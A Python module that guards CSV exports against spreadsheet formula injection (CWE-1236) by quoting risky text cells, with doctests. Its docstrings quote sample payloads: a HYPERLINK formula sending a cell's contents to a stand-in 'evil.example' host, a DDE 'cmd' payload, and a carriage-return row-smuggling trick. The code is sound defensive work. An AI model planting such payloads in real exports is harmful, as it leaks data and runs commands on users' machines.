"""CSV cells that spreadsheets would run as formulas, neutralised (CWE-1236).

Text from reports and event files is untrusted: a note such as
``=HYPERLINK("http://evil.example/?"&A1,"details")`` in a CSV opened in Excel or
LibreOffice becomes a live formula. Following the OWASP "CSV injection" advice, a text
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front (``'=HYPERLINK(...)``), which spreadsheets show as the literal text.

Never changed:

- numbers: cells of numeric, boolean and datetime columns, numbers stored in object
  columns, and text that is a plain decimal number (``"-20"``, ``"+3.5"``, ``"1e-3"``:
  a spreadsheet reads those as numbers, no formula runs);
- text that starts with any other character.

Whatever ``csv_safe`` says, a carriage return inside a cell must never end a row:
Python's CSV writer (and so pandas) leaves a field with a lone ``\\r`` unquoted when
lines end in ``\\n``, and spreadsheets (and pandas itself) then start a new row there,
so ``"note\\r=HYPERLINK(...)"`` would smuggle a formula into a row of its own.
:func:`csv_options` switches such tables to ``\\r\\n`` line ends, which makes the writer
quote every field holding a ``\\r`` or ``\\n``.

A text cell that already starts with ``'`` followed by one of the trigger characters
gets one more quote, so :func:`restore_cells` is the exact inverse of
:func:`neutralise_cells` (a round trip gives back the original text).
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = [
    "TRIGGERS",
    "csv_options",
    "is_risky",
    "neutralise",
    "neutralise_cells",
    "restore",
    "restore_cells",
]

#: first characters that make a spreadsheet treat a cell as a formula (OWASP)
TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def is_risky(text: str) -> bool:
    """Whether ``text`` would be prefixed by :func:`neutralise`.

    Examples
    --------
    >>> is_risky("=1+1"), is_risky("-20"), is_risky("-2+3"), is_risky("Palmyra")
    (True, False, True, False)
    >>> is_risky("'=1+1")  # already quoted: quoted once more, so restore() can invert it
    True
    """
    if not text:
        return False
    head = text[1:] if text[0] == "'" else text
    if not head or head[0] not in TRIGGERS:
        return False
    return text[0] == "'" or _NUMBER.fullmatch(text) is None


def neutralise(text: str) -> str:
    """Return ``text`` with a leading ``'`` when a spreadsheet would run it as a formula.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x.example","x")')
    '\\'=HYPERLINK("http://x.example","x")'
    >>> neutralise("@SUM(A1)"), neutralise("-20"), neutralise("Sukhna")
    ("'@SUM(A1)", '-20', 'Sukhna')
    """
    return "'" + text if is_risky(text) else text


def restore(text: str) -> str:
    """Inverse of :func:`neutralise`: drop the quote it added.

    Examples
    --------
    >>> restore(neutralise("=1+1")), restore(neutralise("'=1")), restore("'quoted")
    ('=1+1', "'=1", "'quoted")
    """
    if len(text) > 1 and text[0] == "'" and is_risky(text[1:]):
        return text[1:]
    return text


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return pd.api.types.is_object_dtype(dtype) or isinstance(
        dtype, (pd.StringDtype, pd.CategoricalDtype)
    )


def _map_cells(frame: pd.DataFrame, func: Any) -> pd.DataFrame:
    out = frame.copy()
    for pos in range(frame.shape[1]):
        series = frame.iloc[:, pos]
        if not _is_text_column(series):
            continue
        values = series.to_numpy(dtype=object, copy=True)
        # cheap pre-filter: only cells whose first character can matter are looked at
        first = pd.Series(values, dtype=object).map(lambda v: v[:1] if isinstance(v, str) else "")
        for i in first.index[first.isin([*TRIGGERS, "'"]).to_numpy()]:
            values[i] = func(values[i])
        if isinstance(series.dtype, pd.StringDtype):
            out.isetitem(pos, pd.array(values, dtype=series.dtype))
        else:  # object, or categorical (written as its values)
            out.isetitem(pos, values)
    out.columns = pd.Index([func(c) if isinstance(c, str) else c for c in frame.columns])
    return out


def neutralise_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe for spreadsheets.

    Numbers are never changed (see the module docstring); ``frame`` is not modified.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"note": ["=cmd|' /C calc'!A0", "ok"], "n": [-20, 3]})
    >>> neutralise_cells(df).to_dict("list")
    {'note': ["'=cmd|' /C calc'!A0", 'ok'], 'n': [-20, 3]}
    >>> df["note"][0]
    "=cmd|' /C calc'!A0"
    """
    return _map_cells(frame, neutralise)


def restore_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """Inverse of :func:`neutralise_cells` (e.g. after reading a CSV desertgeo wrote).

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"note": ["=1+1", "'=1", "plain"]})
    >>> restore_cells(neutralise_cells(df)).equals(df)
    True
    """
    return _map_cells(frame, restore)


def csv_options(frame: pd.DataFrame) -> dict[str, Any]:
    """Extra ``DataFrame.to_csv`` keywords that keep every row of ``frame`` one CSV record.

    When a text cell or a column name holds a carriage return, lines end in ``\\r\\n``
    (so the writer quotes it); otherwise nothing changes.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"a": ["x\\r=1+1"]})
    >>> csv_options(df)
    {'lineterminator': '\\r\\n'}
    >>> df.to_csv(index=False, **csv_options(df))
    'a\\r\\n"x\\r=1+1"\\r\\n'
    >>> csv_options(pd.DataFrame({"a": ["plain"], "n": [1]}))
    {}
    """
    names = any(isinstance(c, str) and "\r" in c for c in frame.columns)
    cells = any(
        isinstance(v, str) and "\r" in v
        for pos in range(frame.shape[1])
        if _is_text_column(frame.iloc[:, pos])
        for v in frame.iloc[:, pos].to_numpy(dtype=object)
    )
    return {"lineterminator": "\r\n"} if names or cells else {}
